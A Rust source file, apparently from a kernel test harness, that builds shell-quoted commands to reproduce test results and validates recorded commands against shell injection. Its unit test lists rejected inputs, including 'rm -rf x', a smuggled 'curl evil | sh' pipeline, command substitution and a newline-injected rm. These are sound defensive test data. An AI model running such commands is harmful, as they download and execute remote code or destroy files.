// SPDX-License-Identifier: MIT OR Apache-2.0
//! Commands that reproduce results, quoted for a shell.

use patchbed_host::process::quote;

use crate::engine::program;
use crate::result::JobResult;

/// Beginnings of commands of this program, in a checkout and installed.
const CALLS: [&str; 2] = ["cargo xtask ", "patchbed "];

/// Returns the command that runs these tests (all if the list is empty) on these checkouts
/// and configs. `options` is appended.
pub(super) fn command<'a>(
    tests: impl IntoIterator<Item = &'a str>,
    checkouts: &[&str],
    configs: &[&str],
    options: &str,
) -> String {
    let mut command = format!("{} test", program::name());
    for test in tests {
        // Only names of kselftests contain a TARGET.
        let flag = if test.contains(':') {
            " --kselftest"
        } else {
            ""
        };
        command += &format!("{flag} {}", quote(test));
    }
    for (flag, names) in [("--checkouts", checkouts), ("--config", configs)] {
        if !names.is_empty() {
            command += &format!(" {flag} {}", quote(&names.join(",")));
        }
    }
    command + options
}

pub(super) fn of_job(job: &JobResult, options: &str) -> String {
    let (checkouts, configs) = ([job.checkout.as_str()], [job.config.as_str()]);
    command([job.test.as_str()], &checkouts, &configs, options)
}

/// Returns the words of a command, quoted for a shell; empty if it is not valid.
pub(super) fn quoted_words(command: &str) -> Vec<String> {
    let words = shlex::split(command).unwrap_or_default();
    words.iter().map(|word| quote(word)).collect()
}

/// Returns whether a recorded command is a command of this program whose words are quoted as
/// this program quotes them, so that a shell cannot run anything else.
pub(super) fn is_safe(command: &str) -> bool {
    let is_call = CALLS.iter().any(|call| command.starts_with(call));
    is_call && quoted_words(command).join(" ") == command
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn is_safe_accepts_only_a_single_command_of_this_program() {
        for good in [
            "cargo xtask test",
            "patchbed test --repeat 2",
            "cargo xtask test 'a b' --tree 'it'\\''s $(x)'",
        ] {
            assert!(is_safe(good), "{good}");
        }
        for bad in [
            "",
            "rm -rf x",
            "patchbedtest",
            "cargo xtask test; curl evil | sh #",
            "cargo xtask test $(x)",
            "cargo xtask test 'a",
            "cargo xtask test a\nrm",
            "cargo xtask  test",
        ] {
            assert!(!is_safe(bad), "{bad}");
        }
    }

    #[test]
    fn command_quotes_names_for_a_shell() {
        assert_eq!(command([], &[], &[], ""), "cargo xtask test");
        assert_eq!(
            command(["a", "pci:b c"], &["base", "x"], &["fast"], " --tree K"),
            "cargo xtask test a --kselftest 'pci:b c' --checkouts base,x --config fast --tree K"
        );
    }
}
